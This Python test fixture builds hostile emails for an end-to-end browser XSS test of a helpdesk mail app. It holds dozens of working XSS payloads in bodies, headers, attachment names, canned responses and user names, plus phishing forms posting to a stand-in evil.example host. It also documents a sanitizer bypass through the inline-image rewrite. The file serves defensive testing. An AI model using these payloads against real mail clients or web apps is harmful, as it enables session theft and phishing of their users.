"""Hostile mail for the browser XSS test (``tests/e2e/test_browser_xss.py``).

Every vector tries to run ``pwn('<marker>')`` (or ``alert``, which the test records the same way);
the marker is unique, so whatever runs says which vector it was. Mail is built as raw bytes here,
not through ``email``'s header policy, so the hostile headers reach the SMTP server exactly as
written: quoted display names, RFC 2047 encoded words, RFC 2231 parameters and their continuations.
"""

from __future__ import annotations

import base64
from collections.abc import Sequence
from dataclasses import dataclass, field
from urllib.parse import quote

DOMAIN = "xss.example"  # Message-ID domain of every corpus mail
TO = "support@acme.test"
DATE = "Fri, 20 Nov 2026 09:30:00 +0000"
EVIL = "https://evil.example"  # never reachable: the test aborts every request that leaves 127.0.0.1


def pwn(marker: str) -> str:
    """The JavaScript call a vector makes (single quotes: it sits in double-quoted attributes)."""
    return f"pwn('{marker}')"


@dataclass(frozen=True)
class Vector:
    marker: str
    html: str  # the hostile fragment, placed in an otherwise ordinary HTML mail
    what: str  # what it tries


def _v(marker: str, what: str, html: str) -> Vector:
    return Vector(marker=marker, what=what, html=html.replace("PWN", pwn(marker)))


# One mail each (threaded ten to a conversation). "PWN" in a fragment becomes pwn('<marker>').
HTML_VECTORS: tuple[Vector, ...] = (
    _v("script", "a plain script element", "<script>PWN</script>"),
    _v(
        "script-src-data",
        "an external script from a data: URI",
        '<script src="data:text/javascript,PWN"></script>',
    ),
    _v("img-onerror", "an image error handler", '<img src="x" onerror="PWN">'),
    _v("img-onerror-upper", "upper-case, unquoted handler", "<IMG SRC=x ONERROR=PWN>"),
    _v("img-slashes", "slashes instead of spaces between attributes", "<img/src=x/onerror=PWN>"),
    _v("svg-onload", "an svg load handler", '<svg onload="PWN"><circle r="5"></circle></svg>'),
    _v("svg-script", "a script inside svg", "<svg><script>PWN</script></svg>"),
    _v(
        "svg-animate-href",
        "svg animate setting a javascript: href",
        '<svg><a><animate attributeName="href" values="javascript:PWN"/>'
        '<text x="20" y="20">click</text></a></svg>',
    ),
    _v(
        "iframe-srcdoc",
        "a frame with its own document",
        '<iframe srcdoc="<script>PWN</script><img src=x onerror=&quot;PWN&quot;>"></iframe>',
    ),
    _v("iframe-src-js", "a frame at a javascript: URL", '<iframe src="javascript:PWN"></iframe>'),
    _v("frameset", "a frameset", '<frameset onload="PWN"><frame src="javascript:PWN"></frameset>'),
    _v("a-javascript", "a javascript: link", '<a href="javascript:PWN">Open your invoice</a>'),
    _v("a-js-entity", "an entity-encoded javascript: link", '<a href="&#106;avascript:PWN">Invoice</a>'),
    _v(
        "a-js-hex-tab",
        "javascript: split by an encoded tab, with leading control characters",
        '<a href=" &#x0E; java&#x09;script&colon;PWN">Invoice</a>',
    ),
    _v("a-vbscript", "a vbscript: link", '<a href="vbscript:msgbox(1)" title="PWN">VB</a>'),
    _v(
        "a-data-html",
        "a data: link to an HTML document",
        '<a href="data:text/html;base64,'
        + base64.b64encode(b"<script>" + pwn("a-data-html").encode() + b"</script>").decode()
        + '">Open</a>',
    ),
    _v(
        "a-onclick",
        "a handler on a real link",
        '<a href="https://example.com/" onclick="PWN" onmouseover="PWN">Hover me</a>',
    ),
    _v(
        "form-action",
        "a phishing form posting away, with a javascript: formaction",
        f'<form action="{EVIL}/steal" method="post"><input name="password" type="password">'
        '<button formaction="javascript:PWN">Log in</button><input type="submit" value="Go"></form>',
    ),
    _v(
        "meta-refresh-js",
        "a refresh to a javascript: URL",
        '<meta http-equiv="refresh" content="0;url=javascript:PWN">',
    ),
    _v(
        "meta-refresh-remote",
        "a refresh navigating away",
        f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    ),
    _v(
        "base-href",
        "a base URL that relative links and images would resolve against",
        f'<base href="{EVIL}/"><a href="relative/PWN">relative link</a><img src="pixel.png" alt="PWN">',
    ),
    _v(
        "object-data",
        "an object with an HTML document",
        '<object data="data:text/html,<script>PWN</script>"></object>',
    ),
    _v("embed-src", "an embed with an HTML document", '<embed src="data:text/html,<script>PWN</script>">'),
    _v(
        "style-import",
        "a style sheet importing a remote sheet",
        f'<style>@import url("{EVIL}/import.css"); p {{ color: red }}</style>',
    ),
    _v(
        "link-stylesheet",
        "a remote style sheet",
        f'<link rel="stylesheet" href="{EVIL}/sheet.css" onload="PWN">',
    ),
    _v(
        "css-expression",
        "IE's CSS expression()",
        '<div style="width: expression(PWN); color: red">expression</div>',
    ),
    _v(
        "css-url-js",
        "url(javascript:) and a remote background in inline CSS",
        f"<div style=\"background:url('javascript:PWN'); background-image: url({EVIL}/bg.png)\">bg</div>",
    ),
    _v(
        "css-binding",
        "-moz-binding and behavior",
        f'<div style="-moz-binding: url({EVIL}/xbl.xml#x); behavior: url({EVIL}/x.htc)">binding</div>',
    ),
    _v(
        "mxss-noscript",
        "noscript namespace confusion",
        '<noscript><p title="</noscript><img src=x onerror=PWN>"></noscript>',
    ),
    _v(
        "mxss-math",
        "math/mglyph/style namespace confusion",
        "<math><mtext><table><mglyph><style><img src=x onerror=PWN></style></mglyph></table></mtext></math>",
    ),
    _v(
        "mxss-svg-style",
        "svg style that HTML reads as raw text",
        '<svg></p><style><a id="</style><img src=x onerror=PWN>">',
    ),
    _v(
        "mxss-select",
        "select/template re-parenting",
        "<select><template><style><img src=x onerror=PWN></style></template></select>",
    ),
    _v(
        "template", "a template's content", "<template><img src=x onerror=PWN><script>PWN</script></template>"
    ),
    _v(
        "img-data-html",
        "an image whose source is an HTML document",
        '<img src="data:text/html,<script>PWN</script>">',
    ),
    _v(
        "img-data-svg",
        "an svg image with a script",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='PWN'/>\">",
    ),
    _v(
        "details-ontoggle",
        "details that open themselves",
        '<details open ontoggle="PWN"><summary>More</summary>body</details>',
    ),
    _v("body-onload", "handlers on body", '<body onload="PWN" onpageshow="PWN"><p>body</p></body>'),
    _v(
        "input-autofocus",
        "autofocus and a focus handler",
        '<input autofocus onfocus="PWN"><textarea autofocus onfocus="PWN"></textarea>',
    ),
    _v(
        "media-onerror",
        "audio and video source handlers",
        '<video><source onerror="PWN"></video><audio src="x" onerror="PWN"></audio>',
    ),
    _v("marquee-onstart", "marquee's start handler", '<marquee onstart="PWN">marquee</marquee>'),
    _v(
        "button-formaction",
        "a button submitting to javascript:",
        '<form><button formaction="javascript:PWN">Submit</button></form>',
    ),
    _v("isindex", "isindex's action", '<isindex action="javascript:PWN" type="image" src="x" onerror="PWN">'),
    _v(
        "attrs-multiline",
        "a tag and its handler broken across lines",
        '<img\nsrc=x\nonerror\n=\n"PWN"\n>\n<a\r\nhref="java\r\nscript:PWN">split</a>',
    ),
    _v(
        "attrs-nul",
        "a NUL and odd bytes inside the handler name",
        '<img src=x on\x00error="PWN"><img src=x o\u200bnerror="PWN">',
    ),
    _v("unclosed-img", "an image tag that never ends", "<p>before</p><img src=x onerror=PWN "),
    _v("unclosed-a", "a javascript: link that never closes", '<a href="javascript:PWN">unclosed <b>bold'),
    _v("unclosed-script", "a script that never closes", "<script>PWN"),
    _v("comment-breakout", "a comment that ends early", '<!--<img src="--><img src=x onerror=PWN>-->'),
    _v("cdata-breakout", "CDATA outside foreign content", "<![CDATA[><img src=x onerror=PWN>]]>"),
    _v(
        "escaped-markup",
        "markup written as text (must stay text)",
        "&lt;img src=x onerror=PWN&gt; &lt;script&gt;PWN&lt;/script&gt;",
    ),
    _v(
        "blockquote-fold",
        "quoted history whose attribute looks like its end tag",
        '<blockquote title="</blockquote><img src=x onerror=PWN>"><p>quoted</p></blockquote><p>after</p>',
    ),
    _v(
        "cid-title-handler",
        "an inline-image reference inside an attribute value (the cid: rewrite runs after sanitizing)",
        '<p title="src=cid:a onmouseover=PWN style=display:block;height:2000px">hover anywhere</p>',
    ),
    _v(
        "cid-title-img",
        "an inline-image reference that breaks out of its attribute into a new element",
        '<p title="src=cid:a ><img src=x onerror=PWN>">broken out</p>',
    ),
    _v(
        "cid-title-href",
        "an inline-image reference that breaks out into a javascript: href (a new window, per <base target>)",
        '<a title="src=cid:a href=javascript:PWN">open in a new window</a>',
    ),
    _v(
        "cid-title-href-top",
        "an inline-image reference that breaks out into a javascript: href targeting the app's page",
        '<a title="src=cid:a href=javascript:PWN target=_top">open on top</a>',
    ),
    _v(
        "cid-title-refresh",
        "an inline-image reference that breaks out into a refresh navigating away",
        f"<p title=\"src=cid:a ><meta http-equiv=refresh content='0;url={EVIL}/cid-refresh'>\">refresh</p>",
    ),
    _v(
        "cid-title-form",
        "an inline-image reference that breaks out into a phishing form",
        f'<p title="src=cid:a ><form action={EVIL}/phish><input type=password name=pw>'
        '<button>Log in</button></form>">form</p>',
    ),
)

# The vectors that the inline-image rewrite (mailroom/mail/inline_images.py) turns back into live
# markup after nh3 has sanitized them: a finding of this test, see the module doc of the test.
CID_BREAKOUTS = frozenset(v.marker for v in HTML_VECTORS if v.marker.startswith("cid-"))


@dataclass(frozen=True)
class Mail:
    key: str  # Message-ID local part, also names the mail in reports
    raw: bytes
    markers: tuple[str, ...]  # what may show up in __xss if the mail ran code
    what: str
    vector: Vector | None = None
    parent: str | None = None  # the key of the mail this one answers (sent once that one is in)


@dataclass(frozen=True)
class Attachment:
    disposition: str  # the raw Content-Disposition value
    content_type: str  # the raw Content-Type value
    data: bytes
    content_id: str | None = None


@dataclass
class _Builder:
    key: str
    subject: str
    sender: str = "Carol Customer <carol@example.com>"
    text: str | None = None
    html: str | None = None
    headers: Sequence[str] = ()
    attachments: Sequence[Attachment] = field(default_factory=list)
    parent: str | None = None

    def build(self) -> bytes:
        head = [
            f"From: {self.sender}",
            f"To: {TO}",
            f"Subject: {self.subject}",
            f"Date: {DATE}",
            f"Message-ID: <{self.key}@{DOMAIN}>",
            "MIME-Version: 1.0",
            *(
                (f"In-Reply-To: <{self.parent}@{DOMAIN}>", f"References: <{self.parent}@{DOMAIN}>")
                if self.parent
                else ()
            ),
            *self.headers,
        ]
        bodies = [
            _part(f"text/{kind}; charset=utf-8", None, content.encode())
            for kind, content in (("plain", self.text), ("html", self.html))
            if content is not None
        ]
        body = bodies[0] if len(bodies) == 1 else _multipart("alternative", f"alt-{self.key}", bodies)
        if self.attachments:
            extra = [
                _part(a.content_type, a.disposition, a.data, content_id=a.content_id)
                for a in self.attachments
            ]
            body = _multipart("mixed", f"mix-{self.key}", [body, *extra])
        return ("\r\n".join(head) + "\r\n" + body).encode("utf-8")


def _part(content_type: str, disposition: str | None, data: bytes, *, content_id: str | None = None) -> str:
    lines = [f"Content-Type: {content_type}", "Content-Transfer-Encoding: base64"]
    if disposition:
        lines.append(f"Content-Disposition: {disposition}")
    if content_id:
        lines.append(f"Content-ID: <{content_id}>")
    encoded = base64.encodebytes(data).decode("ascii").replace("\n", "\r\n")
    return "\r\n".join(lines) + "\r\n\r\n" + encoded


def _multipart(subtype: str, boundary: str, parts: Sequence[str]) -> str:
    inner = "".join(f"--{boundary}\r\n{part}\r\n" for part in parts)
    return f'Content-Type: multipart/{subtype}; boundary="{boundary}"\r\n\r\n{inner}--{boundary}--\r\n'


def _b(text: str) -> str:
    return f"=?UTF-8?B?{base64.b64encode(text.encode()).decode()}?="


def _q(text: str) -> str:
    """An RFC 2047 Q encoded word: every byte outside letters and digits as =XX (spaces as _)."""
    encoded = "".join(
        c if c.isascii() and c.isalnum() else "_" if c == " " else "".join(f"={b:02X}" for b in c.encode())
        for c in text
    )
    return f"=?UTF-8?Q?{encoded}?="


def _img(marker: str) -> str:
    return f"<img src=x onerror={pwn(marker)}>"


VECTORS_PER_THREAD = (
    10  # a thread of messages per conversation: fewer pages to open, each vector its own frame
)


def vector_mails() -> list[Mail]:
    """One mail per vector, threaded ten to a conversation (each answers its thread's first)."""
    mails: list[Mail] = []
    for index, v in enumerate(HTML_VECTORS):
        thread = index // VECTORS_PER_THREAD + 1
        first = HTML_VECTORS[(thread - 1) * VECTORS_PER_THREAD]
        parent = None if first is v else f"v-{first.marker}"
        mails.append(
            Mail(
                key=f"v-{v.marker}",
                raw=_Builder(
                    key=f"v-{v.marker}",
                    subject=f"{'Re: ' if parent else ''}Hostile HTML, thread {thread}",
                    text=f"Vector {v.marker}: the HTML part is hostile.",
                    html=f"<p>Vector <b>{v.marker}</b>: {v.what}.</p>\n{v.html}\n<p>End of mail.</p>",
                    parent=parent,
                ).build(),
                markers=(v.marker,),
                what=v.what,
                vector=v,
                parent=parent,
            )
        )
    return mails


def header_mails() -> list[Mail]:
    """Hostile subjects, display names, addresses and attachment names, raw and encoded."""
    subject = f'<script>{pwn("subject-script")}</script>"><img src=x onerror={pwn("subject-img")}>'
    name = f'"><img src=x onerror={pwn("from-name")}>'
    b_subject = f"<script>{pwn('subject-2047-b')}</script>"
    q_subject = f"Re: <svg onload={pwn('subject-2047-q')}> and '\"><script>{pwn('subject-2047-q')}</script>"
    name_2047 = f'"><img src=x onerror={pwn("from-2047")}>'
    pdf = b"%PDF-1.4\n% not really a pdf\n"
    att_plain = f'"><img src=x onerror={pwn("att-quoted")}>.pdf'
    att_2231 = f'"><img src=x onerror={pwn("att-2231")}>.pdf'
    att_cont = f'"><svg onload={pwn("att-2231-cont")}>.pdf'
    att_2047 = f"<img src=x onerror={pwn('att-2047')}>.pdf"
    html_page = f"<!doctype html><script>{pwn('att-html')}</script><img src=x onerror={pwn('att-html')}>"
    svg = (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{pwn('att-svg')}\">"
        f"<script>{pwn('att-svg')}</script></svg>"
    )
    half = len(att_cont) // 2
    return [
        Mail(
            key="h-subject-from",
            raw=_Builder(
                key="h-subject-from",
                subject=subject,
                sender=f'"{name.replace(chr(34), chr(92) + chr(34))}" <mallory-from@example.com>',
                text=f"Hostile subject and display name. {_img('h-subject-from-text')}",
            ).build(),
            markers=("subject-script", "subject-img", "from-name", "h-subject-from-text"),
            what='raw <script> and "><img onerror> in Subject and the From display name',
        ),
        Mail(
            key="h-encoded",
            raw=_Builder(
                key="h-encoded",
                subject=f"{_b(b_subject)} {_q(q_subject)}",
                sender=f"{_b(name_2047)} <mallory-2047@example.com>",
                text="RFC 2047 encoded hostile subject and name.",
                headers=[
                    f"Cc: {_q('<img src=x onerror=' + pwn('cc-2047') + '>')} <cc@example.com>,"
                    f' "<img/src=x/onerror={pwn("cc-local")}>"@example.com',
                    f"Reply-To: {_b('<svg onload=' + pwn('reply-to') + '>')} <reply@example.com>",
                ],
            ).build(),
            markers=("subject-2047-b", "subject-2047-q", "from-2047", "cc-2047", "cc-local", "reply-to"),
            what="RFC 2047 (B and Q) encoded markup in Subject, From, Cc, Reply-To; a quoted local part",
        ),
        Mail(
            key="h-attachments",
            raw=_Builder(
                key="h-attachments",
                subject="Attachments with hostile names",
                text="See the attachments.",
                attachments=[
                    Attachment(
                        f'attachment; filename="{att_plain.replace(chr(34), chr(92) + chr(34))}"',
                        f'application/pdf; name="{att_plain.replace(chr(34), chr(92) + chr(34))}"',
                        pdf,
                    ),
                    Attachment(
                        f"attachment; filename*=UTF-8''{quote(att_2231, safe='')}", "application/pdf", pdf
                    ),
                    Attachment(
                        f"attachment; filename*0*=UTF-8''{quote(att_cont[:half], safe='')};"
                        f" filename*1*={quote(att_cont[half:], safe='')}",
                        "application/pdf",
                        pdf,
                    ),
                    Attachment(f'attachment; filename="{_b(att_2047)}"', "application/pdf", pdf),
                    Attachment(
                        'attachment; filename="invoice.html"', "text/html; charset=utf-8", html_page.encode()
                    ),
                    Attachment(
                        'inline; filename="logo.svg"',
                        "image/svg+xml",
                        svg.encode(),
                        content_id="logo@xss.example",
                    ),
                    Attachment(
                        'attachment; filename="x.png"',
                        f'image/png" onerror="{pwn("att-ctype")}',
                        b"\x89PNG\r\n\x1a\n",
                    ),
                ],
            ).build(),
            markers=(
                "att-quoted",
                "att-2231",
                "att-2231-cont",
                "att-2047",
                "att-html",
                "att-svg",
                "att-ctype",
            ),
            what="attachment names: quoted, RFC 2231, RFC 2231 continuations, RFC 2047; an HTML, an SVG "
            "and a content type with a quote in it",
        ),
        Mail(
            key="h-svg-cid",
            raw=_Builder(
                key="h-svg-cid",
                subject="An inline SVG image",
                html='<p>Logo:</p><img src="cid:svglogo@xss.example" alt="logo">',
                attachments=[
                    Attachment(
                        'inline; filename="l.svg"',
                        "image/svg+xml",
                        svg.encode(),
                        content_id="svglogo@xss.example",
                    ),
                ],
            ).build(),
            markers=("att-svg",),
            what="an inline (cid:) image that is SVG with a script (never embedded)",
        ),
    ]


def text_mails() -> list[Mail]:
    """Plain text with HTML in it: it must stay text (in <pre>, in the snippet, in quoted text)."""
    text = (
        f"Hello,\n<script>{pwn('text-script')}</script>\n</pre><img src=x onerror={pwn('text-pre')}>\n"
        f"</textarea></title><svg onload={pwn('text-svg')}>\n"
        f"\"'><img src=x onerror={pwn('text-attr')}>\n\n"
        "On Monday you wrote:\n"
        f"> <img src=x onerror={pwn('text-quoted')}>\n"
        f"> </details><script>{pwn('text-quoted')}</script>\n"
    )
    html_only = (
        "<p>Only HTML here; its text is derived for the preview and the plain-text view.</p>"
        f"<p>&lt;img src=x onerror={pwn('derived-text')}&gt; "
        f"&lt;/pre&gt;&lt;script&gt;{pwn('derived-text')}&lt;/script&gt;</p>"
        f'<a href="https://example.com/&quot;&gt;&lt;img src=x onerror={pwn("derived-href")}&gt;">a link</a>'
    )
    return [
        Mail(
            key="t-plain",
            raw=_Builder(key="t-plain", subject="Plain text with markup in it", text=text).build(),
            markers=("text-script", "text-pre", "text-svg", "text-attr", "text-quoted"),
            what="markup in a text/plain body, in the body, the snippet and the quoted part",
        ),
        Mail(
            key="t-html-only",
            raw=_Builder(key="t-html-only", subject="HTML only, escaped markup", html=html_only).build(),
            markers=("derived-text", "derived-href"),
            what="HTML-only mail whose derived text holds markup (entities decoded)",
        ),
    ]


REMOTE_IMAGES = (f"{EVIL}/pixel.gif", "http://tracker.example/open.png")


def remote_images_mail() -> Mail:
    first, second = REMOTE_IMAGES
    html = (
        f'<p>Newsletter</p><img src="{first}" width="1" height="1" alt="">'
        f'<img src="{second}" alt="tracker">'
        f'<img srcset="{EVIL}/srcset.png 2x" src="{EVIL}/pixel.gif">'
        f'<table background="{EVIL}/table-bg.png"><tr>'
        f'<td style="background-image:url({EVIL}/cell-bg.png)">cell</td></tr></table>'
        f'<link rel="stylesheet" href="{EVIL}/remote.css"><video poster="{EVIL}/poster.png"></video>'
        f'<p title="src=cid:a ><link rel=stylesheet href={EVIL}/cid.css>'
        f'<iframe src={EVIL}/cid-frame></iframe>">cid</p>'
    )
    return Mail(
        key="r-remote-images",
        raw=_Builder(key="r-remote-images", subject="Remote images", text="Newsletter", html=html).build(),
        markers=(),
        what="remote images, plus sheets, posters, frames and backgrounds that must never load",
    )


# A 1x1 PNG, for the benign mail's inline image.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def benign_mail() -> Mail:
    """Ordinary rich mail: tables, inline styles, an inline image, a link, quoted history."""
    html = (
        '<div style="font-family:Arial;color:#333"><h2 style="color:#0a5">Your order</h2>'
        '<table border="0" cellpadding="4" style="border-collapse:collapse">'
        "<tr><th>Item</th><th>Qty</th></tr>"
        '<tr><td style="padding:4px">Printer</td><td align="right">1</td></tr></table>'
        '<p>Track it <a href="https://example.com/track">here</a>.'
        ' <img src="cid:dot@xss.example" alt="dot"></p>'
        "<blockquote><p>Earlier: where is my order?</p></blockquote></div>"
    )
    return Mail(
        key="b-benign",
        raw=_Builder(
            key="b-benign",
            subject="Your order has shipped",
            sender="Bob Benign <bob@example.com>",
            text="Your order has shipped.",
            html=html,
            attachments=[
                Attachment('inline; filename="dot.png"', "image/png", PNG, content_id="dot@xss.example")
            ],
        ).build(),
        markers=(),
        what="a benign control mail",
    )


CUSTOMER_NAME = f"<img src=x onerror={pwn('customer-name')}>"


def canned_target_mail() -> Mail:
    """The conversation the hostile canned response is inserted into: a hostile customer name.
    (A hostile Message-ID is no vector: ingestion replaces an invalid one with a generated id.)"""
    return Mail(
        key="c-canned-target",
        raw=_Builder(
            key="c-canned-target",
            subject=f"Refund please <img src=x onerror={pwn('canned-conv-subject')}>",
            sender=f'"{CUSTOMER_NAME}" <victim@example.com>',
            text="I would like a refund.",
        ).build(),
        markers=("customer-name", "canned-conv-subject"),
        what="a hostile customer display name, the canned response's target",
    )


CANNED_ID = "hostile-canned"
CANNED_NAME = f"Refund <img src=x onerror={pwn('canned-name')}>"
CANNED_SUBJECT = f"Re: {{{{ conversation.subject }}}} <script>{pwn('canned-subject')}</script>"
CANNED_BODY = (
    "Hello {{ customer.name }},\n"
    f"<script>{pwn('canned-body')}</script>\n"
    f"</textarea><img src=x onerror={pwn('canned-textarea')}>\n"
    f'"><svg onload={pwn("canned-attr")}>\n'
    "-- {{ agent.name }}\n"
)

# A second admin with a hostile name: on the sign-in page, in presence, as note and mention author.
MALLORY = "mallory@acme.test"
MALLORY_NAME = f"Mallory <img src=x onerror={pwn('user-name')}>"
NOTE_TEXT = (
    f"@admin look <script>{pwn('note-script')}</script> <img src=x onerror={pwn('note-img')}> "
    f"\"'><svg onload={pwn('note-attr')}> @{{{{7*7}}}}"
)


def all_mails() -> list[Mail]:
    mails = [
        *vector_mails(),
        *header_mails(),
        *text_mails(),
        remote_images_mail(),
        canned_target_mail(),
        benign_mail(),
    ]
    keys = [m.key for m in mails]
    assert len(set(keys)) == len(keys), "mail keys must be unique"
    markers = [v.marker for v in HTML_VECTORS]
    assert len(set(markers)) == len(markers), "vector markers must be unique"
    return mails
